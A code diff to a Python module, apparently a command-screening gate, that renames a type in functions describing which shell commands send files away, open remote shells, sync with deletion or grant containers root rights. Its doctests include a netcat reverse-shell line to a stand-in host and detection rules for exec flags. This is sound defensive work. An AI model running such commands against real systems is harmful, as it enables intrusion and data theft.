@@ -4,7 +4,7 @@ import re
 from collections.abc import Iterator
 from typing import Final
 
-from assent.gate.programs.irreversible_losses import Told, names_of, quoted
+from assent.gate.programs.irreversible_losses import ToolWords, names_of, quoted
 from assent.gate.programs.tables.addresses import host_of
 from assent.gate.programs.tables.mounts import HOMES, SOCKETS, mounts
 from assent.gate.shell.word import Exact, Word
@@ -28,7 +28,7 @@ _STORES: Final = late(r"(?:s3|gs|az|r2|b2|oss|wasbs?|abfss?)://|[\w-]{2,}:")
 _HOMES: Final = frozenset(("~", "$HOME", "${HOME}", *HOMES))
 
 
-def tell_sent(told: Told) -> str | None:
+def tell_sent(tool_words: ToolWords) -> str | None:
     """Which files a request sends away, or what it deletes there.
 
     >>> from assent.gate.programs.irreversible_losses import losses_of
@@ -38,26 +38,26 @@ def tell_sent(told: Told) -> str | None:
     >>> losses_of(words_of("curl https://x.org"))
     ()
     """
-    hosts = _hosts_of(told)
+    hosts = _hosts_of(tool_words)
     if not hosts:
         return None
     to = names_of([Exact(text=host) for host in hosts if host != "?"]) or "another machine"
-    files = [*_files_in(told)]
+    files = [*_files_in(tool_words)]
     if files:
         return f"Sends {names_of(files) or 'what it is given'} to {to}."
-    methods = [word.text for flag, word in told.sorted_.values if flag in _METHODS.split()]
+    methods = [word.text for flag, word in tool_words.sorted_.values if flag in _METHODS.split()]
     methods += [
         operand.text
-        for operand in told.sorted_.operands[:1]
-        if told.name in ("http", "https", "xh")
+        for operand in tool_words.sorted_.operands[:1]
+        if tool_words.name in ("http", "https", "xh")
     ]
     return f"Asks {to} to delete something." if "DELETE" in methods else None
 
 
-def _hosts_of(told: Told) -> list[str]:
+def _hosts_of(tool_words: ToolWords) -> list[str]:
     """The hosts of a request that are not this machine's own."""
-    named = [*told.sorted_.operands, *told.sorted_.of("--url")]
-    if told.name in ("http", "https", "xh"):
+    named = [*tool_words.sorted_.operands, *tool_words.sorted_.of("--url")]
+    if tool_words.name in ("http", "https", "xh"):
         named = [word for word in named if re.search(r"://|^[\w-]+\.\w|^:", word.text)][:1]
     hosts = [host_of(word) for word in named] or ["?"]
     return [it for it in dict.fromkeys(hosts) if not _is_near(it)]
@@ -71,16 +71,16 @@ def _is_near(host: str) -> bool:
     return address is not None and address.near
 
 
-def _files_in(told: Told) -> Iterator[Word]:
-    marks = _WITH_FILES if told.name == "curl" else frozenset[str]()
-    for flag, value in told.sorted_.values:
+def _files_in(tool_words: ToolWords) -> Iterator[Word]:
+    marks = _WITH_FILES if tool_words.name == "curl" else frozenset[str]()
+    for flag, value in tool_words.sorted_.values:
         path = _file_in(flag, value.text, marks)
         if path == "-":
-            yield from [Exact(text="…")] if told.fed else []
+            yield from [Exact(text="…")] if tool_words.fed else []
         elif path:
             yield Exact(text=path)
-    if told.name in ("http", "https", "xh"):
-        named = (re.search(r"@(.+)", operand.text) for operand in told.sorted_.operands[1:])
+    if tool_words.name in ("http", "https", "xh"):
+        named = (re.search(r"@(.+)", operand.text) for operand in tool_words.sorted_.operands[1:])
         yield from (Exact(text=match[1]) for match in named if match and "://" not in match.string)
 
 
@@ -94,7 +94,7 @@ def _file_in(flag: str, value: str, marks: frozenset[str]) -> str | None:
     return match[1] if match else None
 
 
-def tell_piped(told: Told) -> str | None:
+def tell_piped(tool_words: ToolWords) -> str | None:
     """What is streamed to another machine, or that it may give commands here.
 
     >>> from assent.gate.programs.irreversible_losses import losses_of
@@ -102,19 +102,21 @@ def tell_piped(told: Told) -> str | None:
     >>> losses_of(words_of("nc -e sh x.org 80"))
     ('Lets another machine give commands to this one.',)
     """
-    runs = told.name == "socat" and any(
-        _RUNS.match(operand.text) for operand in told.sorted_.operands
+    runs = tool_words.name == "socat" and any(
+        _RUNS.match(operand.text) for operand in tool_words.sorted_.operands
     )
-    if runs or told.sorted_.has("-e -c --exec --sh-exec"):
+    if runs or tool_words.sorted_.has("-e -c --exec --sh-exec"):
         return "Lets another machine give commands to this one."
-    hosts = [host_of(operand) for operand in told.sorted_.operands if not operand.text.isdigit()]
+    hosts = [
+        host_of(operand) for operand in tool_words.sorted_.operands if not operand.text.isdigit()
+    ]
     hosts = [host for host in hosts if not _is_near(host) and host != "?"]
-    if not told.fed or not hosts or told.sorted_.has("-z"):
+    if not tool_words.fed or not hosts or tool_words.sorted_.has("-z"):
         return None
     return f"Sends what it is given to {names_of([Exact(text=host) for host in hosts])}."
 
 
-def tell_copied(told: Told) -> str | None:
+def tell_copied(tool_words: ToolWords) -> str | None:
     """What is copied to another machine, and deleted there.
 
     >>> from assent.gate.programs.irreversible_losses import losses_of
@@ -124,7 +126,7 @@ def tell_copied(told: Told) -> str | None:
     >>> losses_of(words_of("scp me@x.org:/srv/notes.txt ."))
     ()
     """
-    *sources, last = told.sorted_.operands or [Exact(text="")]
+    *sources, last = tool_words.sorted_.operands or [Exact(text="")]
     there = _REMOTE.match(last.text)
     if there is None or not sources or any(_REMOTE.match(source.text) for source in sources):
         return None
@@ -132,11 +134,11 @@ def tell_copied(told: Told) -> str | None:
     if _is_near(host) and host in ("localhost", "127.0.0.1"):
         return None
     sent = f"Sends {names_of(sources) or 'what it is given'} to {quoted(host)}"
-    gone = any(flag.startswith("--del") for flag in told.sorted_.found)
+    gone = any(flag.startswith("--del") for flag in tool_words.sorted_.found)
     return f"{sent}, and deletes there what is not here." if gone else f"{sent}."
 
 
-def tell_stored(told: Told) -> str | None:
+def tell_stored(tool_words: ToolWords) -> str | None:
     """What is copied into a store of others.
 
     >>> from assent.gate.programs.irreversible_losses import losses_of
@@ -144,10 +146,10 @@ def tell_stored(told: Told) -> str | None:
     >>> losses_of(words_of("aws s3 sync --delete out s3://site"))
     ('Sends `out` to `s3://site`, and deletes there what is not here.',)
     """
-    *sources, last = told.rest or (Exact(text=""),)
+    *sources, last = tool_words.rest or (Exact(text=""),)
     away = _STORES.match(last.text) and not any(_STORES.match(source.text) for source in sources)
-    syncs = told.sorted_.operands[0].text in ("s3", "sync", "rsync", "mirror")
-    gone = syncs and (told.sorted_.has("--delete -d") or told.name == "rclone")
+    syncs = tool_words.sorted_.operands[0].text in ("s3", "sync", "rsync", "mirror")
+    gone = syncs and (tool_words.sorted_.has("--delete -d") or tool_words.name == "rclone")
     if not sources:
         return None
     if not away:
@@ -156,7 +158,7 @@ def tell_stored(told: Told) -> str | None:
     return f"{sent}, and deletes there what is not here." if gone else f"{sent}."
 
 
-def tell_container(told: Told) -> str | None:
+def tell_container(tool_words: ToolWords) -> str | None:
     """Which rights over the whole machine, or the whole home, a container is given.
 
     >>> from assent.gate.programs.irreversible_losses import losses_of
@@ -166,10 +168,10 @@ def tell_container(told: Told) -> str | None:
     >>> losses_of(words_of("docker run -v ./data:/data alpine"))
     ()
     """
-    texts = [word.text for word in told.words]
-    if any(it in ("--privileged", "--privileged=true") for it in texts):
+    texts = [word.text for word in tool_words.words]
+    if any(text in ("--privileged", "--privileged=true") for text in texts):
         return "Gives the container all rights over this machine."
-    for _, given in mounts(told.words):
+    for _, given in mounts(tool_words.words):
         text = given.text.strip("\"'")
         if text == "/":
             return "Gives the container all files of this machine, to change as it likes."
